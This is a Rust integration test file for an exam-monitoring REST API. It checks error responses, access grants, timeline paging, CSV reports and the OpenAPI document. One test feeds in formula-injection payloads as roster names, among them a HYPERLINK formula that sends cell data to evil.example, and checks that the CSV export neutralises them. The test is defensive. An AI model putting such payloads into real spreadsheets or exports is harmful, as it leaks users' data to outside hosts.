//! The REST API on both databases: exams, errors in one JSON shape with the
//! right status, the paged timeline, the report, and an OpenAPI document
//! that lists every route.

use examwatch::auth::Role;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::{helpers::*, on_both_databases};

on_both_databases!(
    exams_are_created_read_and_listed_per_grant,
    errors_have_one_shape_and_the_right_status,
    the_timeline_pages_through_the_event_log,
    the_report_has_a_row_per_student,
    the_report_cannot_carry_a_formula,
    the_report_counts_stored_answers_not_claims,
);

async fn error_of(resp: reqwest::Response) -> (StatusCode, String) {
    let status = resp.status();
    let body: Value = resp.json().await.expect("JSON error body");
    let code = body["error"]["code"]
        .as_str()
        .expect("error.code")
        .to_owned();
    assert!(
        body["error"]["message"]
            .as_str()
            .is_some_and(|m| !m.is_empty())
    );
    (status, code)
}

async fn exams_are_created_read_and_listed_per_grant(db: Backend) {
    let Some(app) = spawn_app_on(db, |_| {}).await else {
        return;
    };
    let teacher = app.token("t1", Role::Teacher, &["math", "bio"]);
    let admin = app.token("root", Role::Admin, &[]);
    for (id, title) in [("math", "Algebra"), ("bio", "Cells"), ("chem", "Acids")] {
        let token = if id == "chem" { &admin } else { &teacher };
        let r = app
            .api(Method::POST, "/v1/exams", token)
            .json(&json!({"id": id, "title": title, "starts_at": "2099-12-01T09:00:00Z", "duration_minutes": 60, "settings": {"calculator": false}}))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::CREATED);
    }
    let (_s, _) = app.student("math", "s1").await;
    let exam: Value = app.get_json("/v1/exams/math", &teacher).await;
    assert_eq!(exam["title"], "Algebra");
    assert_eq!(exam["starts_at"], "2099-12-01T09:00:00Z");
    assert_eq!(exam["duration_minutes"], 60);
    assert_eq!(exam["settings"], json!({"calculator": false}));
    assert_eq!(exam["counts"]["active"], 1, "live counts: {exam}");
    let mine: Value = app.get_json("/v1/exams", &teacher).await;
    let mut ids: Vec<_> = mine["exams"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["id"].as_str().unwrap())
        .collect();
    ids.sort();
    assert_eq!(ids, ["bio", "math"], "only the exams the token grants");
    let all: Value = app.get_json("/v1/exams", &admin).await;
    assert_eq!(all["exams"].as_array().unwrap().len(), 3);
}

async fn errors_have_one_shape_and_the_right_status(db: Backend) {
    let Some(app) = spawn_app_on(db, |_| {}).await else {
        return;
    };
    let teacher = app.token("t1", Role::Teacher, &["math"]);
    let student = app.token("s1", Role::Student, &["math"]);
    let create =
        |token: &str, body: Value| app.api(Method::POST, "/v1/exams", token).json(&body).send();
    let ok = json!({"id": "math", "title": "Algebra"});
    assert_eq!(create(&teacher, ok.clone()).await.unwrap().status(), 201);
    let cases: Vec<(reqwest::Response, StatusCode, &str)> = vec![
        (create(&teacher, ok.clone()).await.unwrap(), StatusCode::CONFLICT, "conflict"),
        (create(&teacher, json!({"id": "math", "title": ""})).await.unwrap(), StatusCode::UNPROCESSABLE_ENTITY, "invalid_field"),
        (create(&teacher, json!({"id": "math", "title": "x", "starts_at": "soon"})).await.unwrap(), StatusCode::UNPROCESSABLE_ENTITY, "invalid_field"),
        (create(&teacher, json!({"id": "math", "title": 5})).await.unwrap(), StatusCode::UNPROCESSABLE_ENTITY, "invalid_body"),
        (create(&teacher, json!({"id": "bio", "title": "x"})).await.unwrap(), StatusCode::FORBIDDEN, "exam_not_granted"),
        (create(&student, ok.clone()).await.unwrap(), StatusCode::FORBIDDEN, "teachers_only"),
        (app.api(Method::POST, "/v1/exams", &teacher).header("content-type", "application/json").body("{oops").send().await.unwrap(), StatusCode::BAD_REQUEST, "invalid_body"),
        (reqwest::Client::new().get(app.http("/v1/exams")).send().await.unwrap(), StatusCode::UNAUTHORIZED, "missing_token"),
        (app.api(Method::GET, "/v1/exams", "not-a-token").send().await.unwrap(), StatusCode::UNAUTHORIZED, "invalid_token"),
        (app.api(Method::GET, "/v1/exams/nope", &app.token("a", Role::Admin, &[])).send().await.unwrap(), StatusCode::NOT_FOUND, "not_found"),
        (app.api(Method::PUT, "/v1/exams/math/roster", &teacher).json(&json!({"roster": [{"student_id": "s1", "name": "A"}, {"student_id": "s1", "name": "B"}]})).send().await.unwrap(), StatusCode::UNPROCESSABLE_ENTITY, "invalid_field"),
        (app.api(Method::GET, "/v1/exams/math/timeline?limit=0", &teacher).send().await.unwrap(), StatusCode::UNPROCESSABLE_ENTITY, "invalid_field"),
        (app.api(Method::GET, "/v1/exams/math/timeline?after_seq=x", &teacher).send().await.unwrap(), StatusCode::BAD_REQUEST, "invalid_query"),
        (app.api(Method::DELETE, "/v1/exams", &teacher).send().await.unwrap(), StatusCode::METHOD_NOT_ALLOWED, "method_not_allowed"),
        (app.api(Method::GET, "/v1/exams/math/timeline", &app.token("a", Role::Admin, &[])).send().await.unwrap(), StatusCode::OK, "-"),
        (app.api(Method::GET, "/v1/exams/ghost/timeline", &app.token("a", Role::Admin, &[])).send().await.unwrap(), StatusCode::NOT_FOUND, "not_found"),
        (app.api(Method::GET, "/v1/exams/ghost/report.csv", &app.token("a", Role::Admin, &[])).send().await.unwrap(), StatusCode::NOT_FOUND, "not_found"),
        (app.api(Method::GET, "/v1/exams/%FF/students/x/answers", &app.token("a", Role::Admin, &[])).send().await.unwrap(), StatusCode::BAD_REQUEST, "bad_request"),
    ];
    for (i, (resp, status, code)) in cases.into_iter().enumerate() {
        if status == StatusCode::OK {
            assert_eq!(resp.status(), status, "case {i}");
            continue;
        }
        assert_eq!(error_of(resp).await, (status, code.to_owned()), "case {i}");
    }
}

async fn the_timeline_pages_through_the_event_log(db: Backend) {
    let Some(app) = spawn_app_on(db, |_| {}).await else {
        return;
    };
    let teacher = app.token("t1", Role::Teacher, &["e1"]);
    let (mut t, _) = app.teacher("e1", "t1").await;
    let (mut s, _) = app.student("e1", "s1").await;
    for q in 1..=4 {
        s.send_json(progress(q, q)).await;
    }
    s.send_json(json!({"type": "focus", "state": "lost"})).await;
    let mut live = Vec::new();
    for _ in 0..7 {
        live.push(t.next_json().await); // connected, 4 × progress, focus_lost, alert
    }
    app.flushed().await;
    let pages = app.timeline("e1", &teacher, 3).await;
    assert_eq!(
        pages, live,
        "the log holds exactly what teachers saw, in order"
    );
}

async fn the_report_has_a_row_per_student(db: Backend) {
    let Some(app) = spawn_app_on(db, |s| {
        s.exam.disconnect_grace = std::time::Duration::from_millis(50)
    })
    .await
    else {
        return;
    };
    let teacher = app.token("t1", Role::Teacher, &["e1"]);
    app.api(Method::POST, "/v1/exams", &teacher)
        .json(&json!({"id": "e1", "title": "T", "roster": [
            {"student_id": "s1", "name": "Ada"}, {"student_id": "s2", "name": "Bob"}, {"student_id": "s3", "name": "Cy, Jr."}]}))
        .send()
        .await
        .unwrap();
    let (mut t, _) = app.teacher("e1", "t1").await;
    let (mut s1, _) = app.student("e1", "s1").await;
    s1.send_json(json!({"type": "answer", "id": "a", "question": "q1", "value": 1, "ref": 1}))
        .await;
    s1.expect_ack(1).await;
    s1.send_json(json!({"type": "focus", "state": "lost"}))
        .await;
    s1.send_json(json!({"type": "submit", "ref": 2})).await;
    s1.expect_ack(2).await;
    let (s2, _) = app.student("e1", "s2").await;
    s2.close().await;
    t.next_where("s2 disconnected", |ev| {
        is_student_event(ev, "s2", "disconnected")
    })
    .await;
    app.flushed().await;
    let resp = app
        .api(Method::GET, "/v1/exams/e1/report.csv", &teacher)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.headers()["content-type"], "text/csv; charset=utf-8");
    let csv = resp.text().await.unwrap();
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(
        lines[0],
        "student_id,name,status,answered,connections,total_disconnected_seconds,focus_lost_count,submitted_at,alerts_environment,alerts_test_taker,alerts_technical,extra_time_seconds,ended"
    );
    let row = |id: &str| {
        lines
            .iter()
            .find(|l| l.starts_with(&format!("{id},")))
            .copied()
            .unwrap_or_else(|| panic!("no row for {id}: {csv}"))
    };
    let s1: Vec<_> = row("s1").split(',').collect();
    assert_eq!(&s1[..7], ["s1", "Name s1", "submitted", "1", "1", "0", "1"]);
    assert!(s1[7].ends_with('Z'));
    assert!(row("s2").starts_with("s2,Name s2,disconnected,0,1,"));
    assert_eq!(row("s3"), "s3,\"Cy, Jr.\",absent,0,0,0,0,,0,0,0,0,");
    assert!(
        row("s1").ends_with(",0,submitted"),
        "s1 submitted itself: {csv}"
    );
}

async fn report_csv(app: &TestApp, exam: &str, token: &str) -> String {
    let resp = app
        .api(Method::GET, &format!("/v1/exams/{exam}/report.csv"), token)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    resp.text().await.unwrap()
}

async fn the_report_cannot_carry_a_formula(db: Backend) {
    let Some(app) = spawn_app_on(db, |_| {}).await else {
        return;
    };
    let teacher = app.token("t1", Role::Teacher, &["e1"]);
    let r = app
        .api(Method::POST, "/v1/exams", &teacher)
        .json(&json!({"id": "e1", "title": "T", "roster": [
            {"student_id": "s1", "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"},
            {"student_id": "+s2", "name": "@SUM(1+1)"},
            {"student_id": "s3", "name": "Ada"},
            {"student_id": "-s4", "name": "-s4"}]}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::CREATED);
    // A connected student whose token id starts a formula too.
    let (mut t, _) = app.teacher("e1", "t1").await;
    let (_s, _) = app.student("e1", "-s4").await;
    assert!(is_student_event(&t.next_json().await, "-s4", "connected"));
    app.flushed().await;
    let csv = report_csv(&app, "e1", &teacher).await;
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines.len(), 5, "{csv}");
    assert!(
        lines[1].starts_with("\"'-s4\",Name -s4,active,0,1,"),
        "{csv}"
    );
    assert_eq!(
        &lines[2..],
        [
            "\"'+s2\",\"'@SUM(1+1)\",absent,0,0,0,0,,0,0,0,0,",
            "s1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",absent,0,0,0,0,,0,0,0,0,",
            "s3,Ada,absent,0,0,0,0,,0,0,0,0,",
        ]
    );
}

async fn the_report_counts_stored_answers_not_claims(db: Backend) {
    let Some(app) = spawn_app_on(db, |_| {}).await else {
        return;
    };
    let teacher = app.token("t1", Role::Teacher, &["e1"]);
    let (mut t, _) = app.teacher("e1", "t1").await;
    let (mut s1, _) = app.student("e1", "s1").await;
    let (mut s2, _) = app.student("e1", "s2").await;
    // s1 claims three answered questions but stored none; s2 stored two.
    s1.send_json(json!({"type": "progress", "question": 4, "answered": 3, "ref": "p"}))
        .await;
    assert_eq!(s1.next_json().await, json!({"type": "ack", "ref": "p"}));
    for (i, q) in ["q1", "q2"].into_iter().enumerate() {
        s2.send_json(json!({"type": "answer", "id": i, "question": q, "value": 1, "ref": i}))
            .await;
        assert_eq!(s2.next_json().await, json!({"type": "ack", "ref": i}));
    }
    t.next_where("s2 with two answers", |ev| {
        ev["type"] == "student"
            && ev["student"]["student_id"] == "s2"
            && ev["student"]["answered"] == 2
    })
    .await;
    app.flushed().await;
    let csv = report_csv(&app, "e1", &teacher).await;
    let row = |id: &str| {
        csv.lines()
            .find(|l| l.starts_with(&format!("{id},")))
            .unwrap_or_else(|| panic!("no row for {id}: {csv}"))
            .split(',')
            .nth(3)
            .unwrap()
            .to_owned()
    };
    assert_eq!((row("s1"), row("s2")), ("0".to_owned(), "2".to_owned()));
}

#[tokio::test]
async fn the_openapi_document_lists_every_route() {
    let app = spawn_app().await;
    let doc: Value = reqwest::get(app.http("/v1/openapi.json"))
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let paths = doc["paths"].as_object().unwrap();
    for (path, method) in [
        ("/v1/exams", "post"),
        ("/v1/exams", "get"),
        ("/v1/exams/{id}", "get"),
        ("/v1/exams/{id}/roster", "put"),
        ("/v1/exams/{id}/timeline", "get"),
        ("/v1/exams/{id}/students/{student_id}/answers", "get"),
        ("/v1/exams/{id}/report.csv", "get"),
        ("/v1/exams/{exam_id}/ws", "get"),
        ("/healthz", "get"),
        ("/readyz", "get"),
    ] {
        assert!(
            paths.get(path).and_then(|p| p.get(method)).is_some(),
            "{method} {path} documented"
        );
    }
    assert!(doc["components"]["securitySchemes"]["bearer"].is_object());
}
